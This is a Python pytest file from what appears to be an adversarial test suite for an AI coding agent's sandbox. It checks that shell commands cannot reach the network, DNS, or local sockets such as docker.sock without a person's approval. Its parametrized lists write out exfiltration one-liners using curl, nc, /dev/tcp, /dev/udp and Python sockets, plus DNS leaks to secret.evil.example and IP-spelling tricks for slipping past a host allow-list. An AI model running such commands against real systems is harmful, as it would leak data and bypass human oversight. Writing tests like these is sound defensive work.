"""Rows J: no command reaches the network, a name server or a socket of another program unless a person let it out.

Tricks with hosts (J02) and with where an allowed host leads (J03) are played with the proxy itself in tests/sandbox.
"""

from __future__ import annotations

import asyncio
import shutil
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from letta_code.core.requests import Approve, Deny
from tests.adversarial.stage import Stage

PYTHON = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {{port}})).send(b'leak')\""
ATTEMPTS = [
    "curl -s http://127.0.0.1:{port}/leak",
    "wget -q -O - http://127.0.0.1:{port}/leak",
    "nc -w 2 127.0.0.1 {port} < x",
    "echo leak > /dev/tcp/127.0.0.1/{port}",
    "exec 9<>/dev/tcp/127.0.0.1/{port}; cat x >&9",
    "ssh -o ConnectTimeout=2 -p {port} 127.0.0.1",
    "git ls-remote http://127.0.0.1:{port}/leak.git",
    "git clone git://127.0.0.1:{port}/leak",
    PYTHON,
    "echo \"import socket; socket.create_connection(('127.0.0.1', {port}))\" > leak.py && python3 leak.py",
    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'",
]


@pytest.mark.row("J01")
@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda one: one.partition(" ")[0].rpartition("/")[2])
async def test_nothing_is_sent_without_a_yes(stage: Stage, sandbox: str, attempt: str) -> None:
    played = await stage.bash(attempt.format(port=stage.listener.port))
    assert stage.listener.heard == [], played.text
    if sandbox == "off":
        assert played.verdict in ("ask", "deny")


@pytest.mark.row("J01")
@pytest.mark.parametrize("attempt", [PYTHON, ATTEMPTS[9]], ids=["python", "script"])
async def test_a_yes_to_a_command_that_named_no_need_does_not_open_the_network(
    stage: Stage, sandbox: str, attempt: str
) -> None:
    """The person agreed to what the sandbox lets it do."""
    stage._deny = ("Read(.env)",)
    played = await stage.bash(attempt.format(port=stage.listener.port), yes=sandbox != "off")
    assert sandbox != "off" or played.verdict == "ask"
    assert stage.listener.heard == [], played.text


@pytest.mark.row("J03")
@pytest.mark.parametrize("program", ["curl -sS --noproxy ''", "wget -q -t 1 -T 5 -O -"])
async def test_a_yes_to_the_web_does_not_open_this_machine(
    stage: Stage, sandbox: str, program: str, record_property: Callable[[str, object], None]
) -> None:
    if shutil.which(program.split(maxsplit=1)[0]) is None:
        pytest.skip(f"{program.split(maxsplit=1)[0]} is not installed")
    stage._deny = ("Read(.env)",)
    played = await stage.bash(f"{program} http://127.0.0.1:{stage.listener.port}/leak", yes=True, needs="network")
    assert played.verdict == "ask"
    if sandbox != "off":
        assert stage.listener.heard == [], played.text
    else:
        record_property("J03", f"{sandbox}:ask")  # all that keeps it there is the question
        for _ in range(1000):
            if stage.listener.heard:
                break
            await asyncio.sleep(0.02)
        assert stage.listener.heard != []  # so it would have come


class NameServer:
    """A name server of loopback that counts who asks."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.asked: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        try:
            while True:
                self.asked.append(self._socket.recv(4096))
        except OSError:
            return

    def close(self) -> None:
        """Send the last word to itself, so that all before it was heard."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"last", ("127.0.0.1", self.port))
        while b"last" not in self.asked:
            pass
        self._socket.close()


@pytest.fixture
def names() -> Iterator[NameServer]:
    server = NameServer()
    yield server
    server.close()
    assert server.asked == [b"last"]


@pytest.mark.row("J04")
@pytest.mark.parametrize(
    "attempt",
    [
        "dig @127.0.0.1 -p {port} +tries=1 +time=1 secret.evil.example",
        "echo secret > /dev/udp/127.0.0.1/{port}",
        f"{sys.executable} -c \"import socket; s = socket.socket(2, 2); s.sendto(b'secret', ('127.0.0.1', {{port}}))\"",
        "getent hosts secret.evil.example",
    ],
    ids=["dig", "udp", "python", "getent"],
)
@pytest.mark.parametrize("yes", [False, True])
async def test_names_carry_nothing_out(stage: Stage, sandbox: str, names: NameServer, attempt: str, yes: bool) -> None:
    stage._deny = ("Read(.env)",)
    if yes and (sandbox == "off" or "/dev/udp" in attempt or attempt.startswith("dig")):
        pytest.skip("the question says that it needs the network: a yes lets it out")
    played = await stage.bash(attempt.format(port=names.port), yes=yes)
    if attempt.startswith("getent") and sandbox != "off":
        assert "secret.evil.example" not in played.text.replace(attempt, "")


@pytest.mark.row("J05")
@pytest.mark.parametrize("place", ["home/.docker/run/docker.sock", "top/agent.sock", "run"])
async def test_sockets_of_other_programs_are_not_reached(
    stage: Stage, sandbox: str, place: str, tmp_path: Path
) -> None:
    paths = {"home": stage.home, "top": stage.outside}
    first, _, rest = place.partition("/")
    folder = paths.get(first, Path("/run"))
    path = folder / rest if rest else Path(f"/run/letta-test-{stage.listener.port}.sock")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        service = socket.socket(socket.AF_UNIX)
        service.bind(str(path))
    except OSError as error:
        pytest.skip(f"{path}: {error}")
    service.listen()
    service.setblocking(False)
    try:
        stage._deny = ("Read(.env)",)
        code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'leak')"
        await stage.bash(f'{sys.executable} -c "{code}"', yes=sandbox != "off")
        with pytest.raises(BlockingIOError):
            service.accept()
    finally:
        service.close()
        path.unlink()


@pytest.mark.row("J02")
async def test_no_spelling_of_an_address_passes_for_a_host_that_was_named(stage: Stage, sandbox: str) -> None:
    """One host is allowed, and the person lets the command have the web: it does not come to this machine by a name."""
    stage._allow, stage._deny = (*stage._allow, "Net(docs.python.org)"), ("Read(.env)",)
    port = stage.listener.port
    hosts = ("docs.python.org@127.0.0.1", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "0177.0.0.1", "localhost.")
    tries = "; ".join(f"curl -sS -m 5 --noproxy '' 'http://{host}:{port}/leak'" for host in hosts)
    answer = Deny() if sandbox == "off" else Approve()
    played = await stage.play(("Bash", {"command": tries, "needs": "network"}), answer=answer)
    assert played.verdict == "ask"
    assert stage.listener.heard == [], played.text
    if sandbox != "off":
        assert played.text.count("letta-code: ") == len(hosts), played.text  # each was refused, and not just not tried
